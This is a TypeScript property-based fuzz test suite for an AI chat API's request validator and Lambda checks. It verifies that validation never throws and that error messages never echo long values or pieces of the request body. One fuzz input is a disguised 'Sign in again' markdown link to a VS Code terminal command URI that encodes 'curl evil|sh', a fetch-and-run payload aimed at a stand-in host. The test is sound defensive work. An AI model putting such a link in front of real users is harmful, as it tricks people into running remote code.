import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { parseRequest, validateRequest } from '../../../src/protocol/validate';
import { readConfig } from '../../../infra/lambda/config';
import { checkEvent } from '../../../infra/lambda/validate';
import { FUZZ_RUNS } from './runs';

/** Every string in a value (keys too), however deep. */
function strings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) value.forEach((v) => strings(v, out));
  else if (typeof value === 'object' && value !== null) {
    for (const [k, v] of Object.entries(value)) {
      out.push(k);
      strings(v, out);
    }
  }
  return out;
}

/** Fails if `message` repeats a request string over 100 characters or any 40-character run of the raw body. */
function assertQuotesNothing(message: string, request: unknown, body: string): void {
  for (const value of strings(request)) {
    if (value.length > 100) assert.ok(!message.includes(value), `the message echoes a ${value.length}-character value`);
  }
  for (let i = 0; i + 40 <= body.length; i++) {
    assert.ok(!message.includes(body.slice(i, i + 40)), `the message quotes the body at ${i}: ${message}`);
  }
}

// Hostile requests: long and markup-laden strings in every field, wrong types, broken conversations.
const long = fc.oneof(
  fc.string({ minLength: 41, maxLength: 400 }),
  fc.string({ unit: 'grapheme', minLength: 41, maxLength: 200 }),
  fc.constantFrom('[Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) '.repeat(2)),
);
const field = fc.oneof(long, fc.string(), fc.anything(), fc.constant(undefined));
const turn = fc.record({ role: fc.oneof(fc.constantFrom('user', 'assistant'), long, fc.anything()), content: field }, { requiredKeys: [] });
// A valid request with one field made hostile, so the later checks (the model allow-list, the turns) run too.
const fieldNames = ['prompt', 'message', 'system', 'modelId', 'maxTokens', 'temperature', 'messages'] as const;
const oneHostileField = fc
  .tuple(fc.constantFrom(...fieldNames), fc.oneof(long, long, field))
  .map(([key, value]) => ({ prompt: 'hi', [key]: value }));
const oneHostileTurn = fc
  .tuple(fc.nat({ max: 5 }), turn)
  .map(([valid, bad]) => ({ messages: [...Array.from({ length: valid }, (_, i) => ({ role: i % 2 === 0 ? 'user' : 'assistant', content: 'ok' })), bad] }));
const hostileRequest = fc.oneof(
  oneHostileField,
  oneHostileTurn,
  fc.record(
    {
      prompt: field,
      message: field,
      system: field,
      modelId: fc.oneof(long, field),
      maxTokens: fc.oneof(fc.integer(), long, fc.anything()),
      temperature: fc.oneof(fc.double(), long, fc.anything()),
      messages: fc.oneof(fc.array(turn, { maxLength: 6 }), long, fc.anything()),
      [`${'x'.repeat(50)}`]: field,
    },
    { requiredKeys: [] },
  ),
  fc.array(long, { maxLength: 3 }),
  long,
);
// v2: a valid tool round trip with one field (tools, toolChoice, reasoning, cache, any block field) made hostile.
const v2Base = () => ({
  protocol: 2,
  tools: [{ name: 'readFile', description: 'Reads a file', inputSchema: { type: 'object' } }],
  toolChoice: 'auto' as unknown,
  reasoning: { budgetTokens: 2048 } as unknown,
  cache: true as unknown,
  messages: [
    { role: 'user', content: [{ type: 'text', text: 'read it' }] },
    { role: 'assistant', content: [{ type: 'reasoning', text: 'ok', signature: 'sig' }, { type: 'toolUse', id: 't1', name: 'readFile', input: { path: 'a' } }] },
    { role: 'user', content: [{ type: 'toolResult', id: 't1', content: [{ type: 'text', text: 'x' }], status: 'success' }] },
  ] as unknown[],
});
const v2Paths: (string | number)[][] = [
  ['protocol'], ['tools'], ['toolChoice'], ['reasoning'], ['cache'],
  ['tools', 0, 'name'], ['tools', 0, 'description'], ['tools', 0, 'inputSchema'], ['tools', 1],
  ['toolChoice', 'name'], ['reasoning', 'budgetTokens'],
  ['messages', 0, 'content'], ['messages', 0, 'content', 0, 'type'], ['messages', 0, 'content', 0, 'text'], ['messages', 0, 'content', 1],
  ['messages', 1, 'content', 0, 'text'], ['messages', 1, 'content', 0, 'signature'], ['messages', 1, 'content', 0, 'redacted'],
  ['messages', 1, 'content', 1, 'id'], ['messages', 1, 'content', 1, 'name'], ['messages', 1, 'content', 1, 'input'], ['messages', 1, 'content', 1, 'type'],
  ['messages', 2, 'content', 0, 'id'], ['messages', 2, 'content', 0, 'status'], ['messages', 2, 'content', 0, 'content'], ['messages', 2, 'content', 0, 'content', 0, 'text'],
  ['messages', 2, 'content', 0, 'content', 0, 'type'], ['messages', 2, 'content', 0, 'content', 0],
];
const oneHostileV2Field = fc.tuple(fc.constantFrom(...v2Paths), fc.oneof(long, long, field, fc.record({ name: long }), fc.array(long, { maxLength: 2 }))).map(([path, value]) => {
  const request = v2Base() as unknown as Record<string | number, unknown>;
  let at = request;
  for (const key of path.slice(0, -1)) {
    if (typeof at[key] !== 'object' || at[key] === null) at[key] = {};
    at = at[key] as Record<string | number, unknown>;
  }
  at[path[path.length - 1]] = value;
  return request;
});

/** A request's JSON, often broken: cut short, or with garbage spliced in. */
const rawBody = fc.oneof(
  hostileRequest.map((r) => JSON.stringify(r) ?? ''),
  oneHostileV2Field.map((r) => JSON.stringify(r) ?? ''),
  fc.tuple(hostileRequest, fc.nat(), long).map(([r, at, junk]) => {
    const json = JSON.stringify(r) ?? '';
    const cut = at % (json.length + 1);
    return json.slice(0, cut) + junk + json.slice(cut);
  }),
  fc.tuple(hostileRequest, fc.nat()).map(([r, at]) => {
    const json = JSON.stringify(r) ?? '';
    return json.slice(0, at % (json.length + 1));
  }),
  long,
);

describe('fuzz: request validator', () => {
  it('never throws, and a valid result is always a conversation ending in a user turn', () => {
    fc.assert(
      fc.property(fc.anything(), (input) => {
        const result = validateRequest(input);
        if (!result.ok) {
          assert.equal(typeof result.message, 'string');
          assert.ok(result.message.length > 0);
          return;
        }
        const { messages } = result.value;
        assert.ok(messages.length > 0);
        assert.equal(messages[messages.length - 1].role, 'user');
        messages.forEach((m, i) => assert.equal(m.role, i % 2 === 0 ? 'user' : 'assistant'));
      }),
      { numRuns: FUZZ_RUNS },
    );
  });

  it('never throws on arbitrary body text', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.json()), (body) => {
        const result = parseRequest(body);
        assert.equal(typeof result.ok, 'boolean');
      }),
      { numRuns: FUZZ_RUNS },
    );
  });

  const config = readConfig({ ALLOWED_MODEL_IDS: 'us.anthropic.claude-sonnet-4-20250514-v1:0', MAX_BODY_BYTES: String(1 << 20), MAX_MESSAGES: '4' });
  /** Runs the protocol's and the Lambda's checks on `body` and asserts their messages quote nothing. */
  const checkMessages = (body: string) => {
    let request: unknown;
    try {
      request = JSON.parse(body);
    } catch {
      request = body;
    }
    const parsed = parseRequest(body, { maxMessages: 4 });
    if (!parsed.ok) assertQuotesNothing(parsed.message, request, body);
    // JSON.parse quotes shorter pieces of the body than 40 characters: its message must not come through at all.
    if (!parsed.ok && request === body) assert.match(parsed.message, /^Request body is not valid JSON( \(at position \d+\))?\.$/);
    // The Lambda's own checks too (the model allow-list, limits), as the handler runs them.
    const checked = checkEvent({ body, isBase64Encoded: false }, config);
    if (!checked.ok) assertQuotesNothing(checked.message, request, body);
  };

  it('an error message never repeats a long request value or 40 characters of the body', () => {
    fc.assert(fc.property(rawBody, checkMessages), { numRuns: FUZZ_RUNS });
  });

  it('… nor of a valid request with one hostile field or turn (so the later checks run)', () => {
    fc.assert(
      fc.property(fc.oneof(oneHostileField, oneHostileTurn), (request) => checkMessages(JSON.stringify(request))),
      { numRuns: FUZZ_RUNS },
    );
  });

  it('… nor of a valid v2 request with one hostile tool, option or block field', () => {
    assert.equal(validateRequest(v2Base()).ok, true, 'the base request is valid, so each run tests the one hostile field');
    fc.assert(
      fc.property(oneHostileV2Field, (request) => checkMessages(JSON.stringify(request))),
      { numRuns: FUZZ_RUNS },
    );
  });

  it('the quote check can fail: it catches an echoed value and a quoted body', () => {
    const body = JSON.stringify({ prompt: 'p'.repeat(120) });
    assert.throws(() => assertQuotesNothing(`bad: ${'p'.repeat(120)}`, JSON.parse(body), body), /echoes a 120-character value/);
    assert.throws(() => assertQuotesNothing(`bad: ${body.slice(0, 45)}`, {}, body), /quotes the body/);
  });

  it('accepts every well-formed request and keeps its fields', () => {
    const content = fc.string({ minLength: 1 }).filter((s) => s.trim().length > 0);
    fc.assert(
      fc.property(
        fc.array(fc.tuple(content, content), { maxLength: 5 }),
        content,
        fc.option(fc.integer({ min: 1, max: 100_000 }), { nil: undefined }),
        fc.option(fc.double({ min: 0, max: 1, noNaN: true }), { nil: undefined }),
        (pairs, last, maxTokens, temperature) => {
          const messages = [...pairs.flatMap(([q, a]) => [{ role: 'user', content: q }, { role: 'assistant', content: a }]), { role: 'user', content: last }];
          const result = validateRequest({ messages, maxTokens, temperature });
          assert.ok(result.ok, result.ok ? '' : result.message);
          assert.deepEqual(result.value.messages, messages);
          assert.equal(result.value.maxTokens, maxTokens);
          assert.equal(result.value.temperature, temperature);
        },
      ),
      { numRuns: FUZZ_RUNS },
    );
  });
});
